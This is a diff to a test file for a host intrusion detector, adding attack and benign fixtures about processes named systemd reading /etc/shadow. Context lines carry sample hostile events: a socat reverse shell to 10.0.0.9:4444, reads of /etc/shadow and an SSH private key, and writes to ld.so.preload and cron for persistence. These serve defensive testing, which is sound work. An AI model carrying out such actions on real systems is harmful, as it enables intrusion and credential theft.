@@ -16,6 +16,9 @@ const attacks: [string, GuardEvent][] = [
   ['reverse-shell', event({ type: 'exec', proc: proc({ pid: 103, ppid: 91, name: 'sh', parentStdioNet: true }), ancestors: [proc({ pid: 91, name: 'python3' })] })],
   ['reverse-shell', event({ type: 'exec', proc: proc({ pid: 131, ppid: 92, name: 'bash', argv: ['bash', '-li'] }), ancestors: [proc({ pid: 92, name: 'socat', argv: ['socat', 'exec:bash -li,pty,stderr', 'tcp:10.0.0.9:4444'] })] })],
   ['read-shadow-file', event({ type: 'open', proc: proc({ pid: 104, name: 'cat' }), file: { path: '/etc/shadow', flags: 0, write: false } })],
+  // named systemd, but not PID 1's own child, or not systemd's binary
+  ['read-shadow-file', event({ type: 'open', proc: proc({ pid: 105, ppid: 4242, name: 'systemd', exe: '' }), file: { path: '/etc/shadow', flags: 0, write: false } })],
+  ['read-shadow-file', event({ type: 'open', proc: proc({ pid: 106, ppid: 1, name: 'systemd', exe: '/tmp/.x/systemd' }), file: { path: '/etc/shadow', flags: 0, write: false } })],
   ['read-ssh-private-key', event({ type: 'open', proc: proc({ pid: 105, name: 'python3', uid: 1001 }), file: { path: '/home/alice/.ssh/id_ed25519', flags: 0, write: false } })],
   ['write-below-system-dir', event({ type: 'open', proc: proc({ pid: 106, name: 'curl' }), file: { path: '/etc/ld.so.preload', flags: 0o1101, write: true } })],
   ['persistence-cron-job', event({ type: 'open', proc: proc({ pid: 106, name: 'curl' }), file: { path: '/etc/cron.d/evil', flags: 0o1101, write: true } })],
@@ -43,6 +46,10 @@ const benign: [string, GuardEvent][] = [
   ['sshd starts a login shell', event({ type: 'exec', proc: proc({ pid: 201, ppid: 200, name: 'bash' }), ancestors: [proc({ pid: 200, name: 'sshd', listening: true })] })],
   ['make runs sh', event({ type: 'exec', proc: proc({ pid: 202, ppid: 203, name: 'sh' }), ancestors: [proc({ pid: 203, name: 'make' })] })],
   ['passwd reads shadow', event({ type: 'open', proc: proc({ pid: 204, name: 'passwd' }), file: { path: '/etc/shadow', flags: 2, write: true } })],
+  // seen on the benign workload (tools/lab/benign.mjs): an SSH login starts user@0.service, whose PAM stack runs
+  // in PID 1's forked child before it execs `systemd --user` (exe unreadable from ainkad's hardened unit)
+  ['systemd runs a unit\'s PAM stack', event({ type: 'open', proc: proc({ pid: 817, ppid: 1, name: 'systemd', exe: '', argv: ['/lib/systemd/systemd'] }), file: { path: '/etc/shadow', flags: 0, write: false } })],
+  ['systemd runs a unit\'s PAM stack (exe known)', event({ type: 'open', proc: proc({ pid: 818, ppid: 1, name: 'systemd', exe: '/usr/lib/systemd/systemd' }), file: { path: '/etc/shadow', flags: 0, write: false } })],
   ['dpkg maintainer script writes /etc', event({ type: 'open', proc: proc({ pid: 205, name: 'sed' }), ancestors: [proc({ pid: 206, name: 'sh' }), proc({ pid: 207, name: 'dpkg' })], file: { path: '/etc/default/x', flags: 1, write: true } })],
   ['ssh reads its key', event({ type: 'open', proc: proc({ pid: 208, name: 'ssh', uid: 1000 }), file: { path: '/home/alice/.ssh/id_ed25519', flags: 0, write: false } })],
   ['cat of a public key', event({ type: 'open', proc: proc({ pid: 209, name: 'cat' }), file: { path: '/root/.ssh/id_rsa.pub', flags: 0, write: false } })],
